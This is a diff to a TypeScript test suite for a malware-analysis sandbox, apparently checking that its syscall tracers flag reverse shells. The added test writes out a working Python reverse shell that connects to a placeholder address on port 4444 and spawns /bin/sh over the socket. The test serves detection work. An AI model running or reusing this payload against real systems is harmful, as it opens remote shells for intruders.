@@ -45,7 +45,8 @@ const CALL_KEYS = ['api', 'arguments', 'category', 'return_value', 'status', 'ti
 async function submit(server: TestServer, name: string, content: Buffer, timeout: string, args = ''): Promise<number> {
   const { status, body } = await server.json<{ task_id: number }>('/tasks/create/file', {
     method: 'POST',
-    body: form({ timeout, package: 'generic', ...(args ? { options: `arguments=${args}` } : {}) }, [['file', name, content]]),
+    // A script is run by the package its type picks; a binary by the generic one.
+    body: form({ timeout, ...(name.endsWith('.py') ? {} : { package: 'generic' }), ...(args ? { options: `arguments=${args}` } : {}) }, [['file', name, content]]),
   });
   assert.equal(status, 200, JSON.stringify(body));
   return body.task_id;
@@ -162,6 +163,24 @@ for (const tracer of ['ebpf', 'strace'] as const) describe(`end to end: system c
     const marked = report.signatures.find((signature) => signature.name === 'reverse_shell')!.marks.map((mark) => mark.call?.api);
     assert.ok(marked.includes('dup2') && marked.includes('execve'), marked.join(','));
     assert.ok(!signatureNames(report).includes('bind_shell'), signatureNames(report).join(','));
+    assert.ok(report.info.score >= 5, `score ${report.info.score}`);
+  });
+
+  it('shows a Python reverse shell: os.dup2 of the socket onto stdio in the interpreter, then a shell on a pty', async () => {
+    const script = [
+      'import os, pty, socket',
+      "s = socket.create_connection(('203.0.113.45', 4444))",
+      'for fd in (0, 1, 2):',
+      '    os.dup2(s.fileno(), fd)',
+      "pty.spawn(['/bin/sh', '-c', 'id'])",
+      '',
+    ].join('\n');
+    const report = await analyse(server, 'rs.py', Buffer.from(script), '20');
+    assertCuckooShape(report, tracer);
+    const shell = report.signatures.find((signature) => signature.name === 'reverse_shell');
+    assert.ok(shell, signatureNames(report).join(','));
+    const marked = shell.marks.map((mark) => mark.call?.api);
+    assert.ok(marked.includes('connect') && marked.includes('dup2'), marked.join(','));
     assert.ok(report.info.score >= 5, `score ${report.info.score}`);
   });
 
